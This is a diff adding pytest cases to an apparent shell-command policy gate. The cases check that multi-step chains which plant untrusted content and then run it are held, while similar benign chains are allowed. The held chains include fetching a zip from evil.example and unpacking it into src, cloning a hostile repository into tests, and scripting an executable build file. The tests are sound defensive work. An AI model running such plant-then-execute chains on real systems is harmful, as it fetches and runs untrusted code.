@@ -6,6 +6,8 @@ from __future__ import annotations
 
 import pytest
 
+from sshgate.policy.model import Action
+
 from .expect import allowed, each, held
 
 HELD: dict[str, list[str]] = {
@@ -252,3 +254,49 @@ def test_held(klass: str) -> None:
 
 def test_allowed() -> None:
     each(ALLOWED, allowed)
+
+
+#: (earlier lines, the line that runs what they planted): each line alone is allowed; the
+#: last is held because an earlier line of the scope unpacked, cloned, copied or linked
+#: unknown content below where it runs, or made a written file a program
+SEQUENCES: list[list[str]] = [
+    ["curl -sSo /tmp/e.zip https://evil.example/e.zip", "unzip -d src /tmp/e.zip", "pytest"],
+    ["tar -xzf /tmp/e.tgz -C tests", "pytest"],
+    ["git clone https://github.com/evil/x /tmp/x", "cp -r /tmp/x/. tests/", "pytest"],
+    ["printf '#!/bin/sh\\nid\\n' > scripts/build", "chmod +x scripts/build", "npm run build"],
+    ["ln -s /tmp/evil tests/vendor", "pytest"],
+    ["printf '>>> 1\\n' > test_doc.txt", "pytest"],
+    ["unzip -d vendor /tmp/e.zip", "go test ./..."],
+]
+#: the same shapes with nothing unknown below the runner
+BENIGN_SEQUENCES: list[list[str]] = [
+    ["tar xzf /tmp/release.tgz -C dist", "ls dist"], ["mkdir -p build", "make"],
+    ["git pull", "pytest"], ["echo hi > notes.txt", "pytest"], ["chmod +x run.sh", "pytest"],
+    ["cp /tmp/report.csv reports/", "make report"],
+    ["git clone https://github.com/org/tool /tmp/tool", "make"],
+    ["pytest > test_output.txt", "cat test_output.txt"],
+]
+
+
+def _acts(lines: list[str]) -> list[bool]:
+    from .test_memory import run
+
+    return [c.default_action is Action.ALLOW for c in run(lines)]
+
+
+def test_sequences_held() -> None:
+    each([tuple(s) for s in SEQUENCES], lambda *s: _last_held(list(s)))
+
+
+def test_benign_sequences_allowed() -> None:
+    each([tuple(s) for s in BENIGN_SEQUENCES], lambda *s: _all_allowed(list(s)))
+
+
+def _last_held(lines: list[str]) -> None:
+    acts = _acts(lines)
+    assert all(acts[:-1]) and not acts[-1], (lines, acts)
+
+
+def _all_allowed(lines: list[str]) -> None:
+    acts = _acts(lines)
+    assert all(acts), (lines, acts)
